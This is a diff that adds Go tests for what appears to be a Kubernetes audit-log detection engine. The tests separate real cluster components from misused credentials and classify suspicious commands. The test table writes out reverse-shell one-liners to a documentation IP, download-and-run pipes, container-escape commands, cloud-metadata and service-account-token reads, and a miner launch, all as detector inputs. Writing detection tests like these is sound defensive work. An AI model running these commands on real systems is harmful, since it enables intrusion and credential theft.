@@ -1,0 +1,112 @@
+package detections
+
+import (
+	"testing"
+
+	"github.com/merlonsec/merlon/internal/event"
+	"github.com/merlonsec/merlon/internal/rule"
+)
+
+// An exclusion holds for a part of Kubernetes at its work: not for its credentials in other hands.
+func TestPartsAreIdentityAndProgram(t *testing.T) {
+	const account = "system:serviceaccount:kube-system:"
+	tests := []struct {
+		name        string
+		is          part
+		user, agent string
+		want        bool
+	}{
+		{"a kubelet", kubelet, "system:node:n1", agentKubelet, true},
+		{"a node's credentials with kubectl", kubelet, "system:node:n1", "kubectl/v1.35.0", false},
+		{"a node's credentials with a client that hides its name", kubelet, "system:node:n1", "", false},
+		{"a program that calls itself a kubelet", kubelet, "dev@example.com", agentKubelet, false},
+		{"the API server", apiServer, "system:apiserver", agentAPIServer, true},
+		{"the controller manager", controllers, "system:kube-controller-manager", agentControllers, true},
+		{"one of its controllers", controllers, account + "replicaset-controller", agentControllers, true},
+		{"a controller whose account is not called so", controllers, account + "generic-garbage-collector", agentControllers, true},
+		{"a controller's token with kubectl", controllers, account + "replicaset-controller", "kubectl/v1.35.0", false},
+		{"another account of kube-system that calls itself so", controllers, account + "coredns", agentControllers, false},
+		{"a controller's name in another namespace", controllers, "system:serviceaccount:shop:replicaset-controller", agentControllers, false},
+		{"an account that is called a controller", controllers, account + "evil-controller", agentControllers, false},
+		{"a part of EKS", eksService, "eks:addon-manager", "Go-http-client/2.0", true},
+		{"a part of EKS with kubectl", eksService, "eks:addon-manager", "kubectl/v1.35.0", false},
+		{"a part of EKS that hides its program", eksService, "eks:addon-manager", "", false},
+		{"a person by hand", byHand, "dev@example.com", "anything/1.0", true},
+		{"a program by itself", byHand, "system:serviceaccount:ops:operator", "operator/1.0", false},
+		{"a program's token by hand", byHand, "system:serviceaccount:ops:operator", "curl/8.5.0", true},
+		{"a program's token with a client that hides its name", byHand, "system:serviceaccount:ops:operator", "", true},
+	}
+	for _, test := range tests {
+		t.Run(test.name, func(t *testing.T) {
+			var a rule.Action
+			a.Reset(&event.Event{User: event.User{Name: test.user}, UserAgent: test.agent, SourceIPs: `["10.0.3.7"]`}, &rule.Surroundings{})
+			if got := test.is(&a); got != test.want {
+				t.Errorf("with %q by %q it is %t", test.agent, test.user, got)
+			}
+		})
+	}
+	var trimmed rule.Action
+	trimmed.Reset(&event.Event{User: event.User{Name: "system:node:n1"}}, &rule.Surroundings{})
+	if !kubelet(&trimmed) || byHand(&trimmed) {
+		t.Error("a record without client and address is held against a kubelet")
+	}
+}
+
+func TestCommandsThatPackAndUnpack(t *testing.T) {
+	tests := []struct {
+		args []string
+		want byte
+	}{
+		{[]string{"tar", "cf", "-", "/etc"}, 'c'},
+		{[]string{"/bin/tar", "-czf", "-", "/etc"}, 'c'},
+		{[]string{"sh", "-c", "tar cf - /etc | tail -c+1025"}, 'c'},
+		{[]string{"tar", "-xmf", "-", "-C", "/tmp"}, 'x'},
+		{[]string{"tar", "xf", "archive.tar"}, 0},
+		{[]string{"tar", "cf", "/tmp/a.tar", "/etc"}, 0},
+		{[]string{"target", "cf", "-"}, 0},
+		{[]string{"tar"}, 0},
+		{nil, 0},
+	}
+	for _, test := range tests {
+		if got := tarMode(test.args); got != test.want {
+			t.Errorf("%q: mode %q, not %q", test.args, got, test.want)
+		}
+	}
+}
+
+func TestSuspicions(t *testing.T) {
+	tests := []struct{ command, want string }{
+		{"bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "reverse shell"},
+		{"nc 198.51.100.7 4444 -e /bin/sh", "reverse shell"},
+		{"rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 198.51.100.7 4444 > /tmp/f", "reverse shell"},
+		{"python3 -c import socket,subprocess,os;s=socket.socket(socket.AF_INET);s.connect((\"198.51.100.7\",4444));os.dup2(s.fileno(),0)", "reverse shell"},
+		{"./miner -o stratum+tcp://pool.example:3333", "miner"},
+		{"nsenter --target 1 --mount sh", "escape to the node"},
+		{"chroot /host sh", "escape to the node"},
+		{"curl http://169.254.170.23/v1/credentials", "cloud credentials"},
+		{"curl http://[fd00:ec2::254]/latest/meta-data/", "cloud credentials"},
+		{"cat /run/secrets/eks.amazonaws.com/serviceaccount/token", "token of the service account"},
+		{"cat /proc/1/environ", "token of the service account"},
+		{"wget -qO- https://198.51.100.7/i.sh | bash", "download and run"},
+		{"sh -c curl -so /tmp/x https://198.51.100.7/x && chmod +x /tmp/x && /tmp/x", "download and run"},
+		{"echo aWQK | base64 -d | sh", "download and run"},
+		{"curl -s http://localhost:8080/healthz", ""},
+		{"sh -c ls | sort", ""},
+		{"env", ""},
+		{"cat /etc/hosts", ""},
+		{"psql -c select 1", ""},
+		{"nc -z db 5432", ""},
+		{"nc -zv -w 2 db 5432", ""},
+		{"redis-cli ping", ""},
+		{"kubectl get pods", ""},
+	}
+	for _, test := range tests {
+		got := ""
+		if s := suspicionOf([]string{test.command}); s != nil {
+			got = s.what
+		}
+		if got != test.want {
+			t.Errorf("%s: %q, not %q", test.command, got, test.want)
+		}
+	}
+}
